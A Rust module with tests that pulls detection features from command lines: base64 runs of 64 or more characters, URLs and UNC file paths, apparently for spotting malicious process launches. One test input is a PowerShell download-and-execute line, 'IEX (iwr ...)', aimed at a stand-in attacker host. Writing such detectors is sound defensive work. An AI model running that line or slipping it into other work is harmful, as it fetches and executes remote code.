//! The published features that are read from a command line by pattern: base64, URLs and UNC paths.

use regex::Regex;
use std::sync::LazyLock;

/// What is looked through of a command line, in bytes.
const LONGEST: usize = 1 << 16;

#[expect(clippy::expect_used, reason = "the patterns are fixed and tested")]
fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("a fixed pattern")
}

static BASE64: LazyLock<Regex> = LazyLock::new(|| pattern(r"[a-zA-Z0-9+/]{64,}={0,2}"));
static URL: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"https?://(www\.)?[-a-zA-Z0-9@:%._+~#=]{1,256}\.[a-zA-Z0-9()]{1,6}(?-u:\b)([-a-zA-Z0-9()@:%_+.~#?&/=]*)"));
static UNC: LazyLock<Regex> = LazyLock::new(|| pattern(r"\\\\[a-zA-Z0-9]+\\[a-zA-Z0-9\\]+\."));

/// The arguments of a command line: all but its first word; `empty` where there is no command line.
pub(super) fn arguments(command_line: Option<&str>) -> &str {
    let Some(line) = command_line else { return "empty" };
    let mut end = line.len().min(LONGEST);
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    line.get(..end).and_then(|line| line.trim_start().split_once(' ')).map_or("", |(_, rest)| rest)
}

/// Whether the arguments hold at least 64 characters of base64 in a row.
pub fn has_base64(arguments: &str) -> bool {
    BASE64.is_match(arguments)
}

/// Whether the arguments hold a URL or the UNC path of a file.
pub fn has_url_or_unc(arguments: &str) -> bool {
    URL.is_match(arguments) || UNC.is_match(arguments)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_needs_64_characters_in_a_row() {
        assert!(has_base64(&format!("-enc {}==", "QUJD".repeat(16))));
        assert!(!has_base64(&format!("-enc {}", "QUJD".repeat(15))));
        assert!(!has_base64(&format!("{} {}", "QUJD".repeat(10), "QUJD".repeat(10))));
        assert!(!has_base64("empty"));
    }

    #[test]
    fn urls_and_unc_paths_of_files() {
        for yes in ["IEX (iwr http://evil.com/a.ps1)", "https://www.example.com", "http://10.0.0.5:8080/x", r"\\host\share\tool.exe", r"copy \\srv01\c\a\b.txt"]
        {
            assert!(has_url_or_unc(yes), "{yes}");
        }
        for no in [
            "http://localhost/x",
            "http://evil.example/a",
            "ftp://example.com/a",
            r"\\host\share",
            r"\\.\pipe\x",
            r"C:\Windows\System32\a.dll",
            "www.example.com",
            "empty",
            "",
        ] {
            assert!(!has_url_or_unc(no), "{no}");
        }
    }

    #[test]
    fn arguments_are_all_but_the_first_word() {
        assert_eq!(arguments(Some("cmd.exe /c dir")), "/c dir");
        assert_eq!(arguments(Some("cmd.exe")), "");
        assert_eq!(arguments(None), "empty");
    }
}
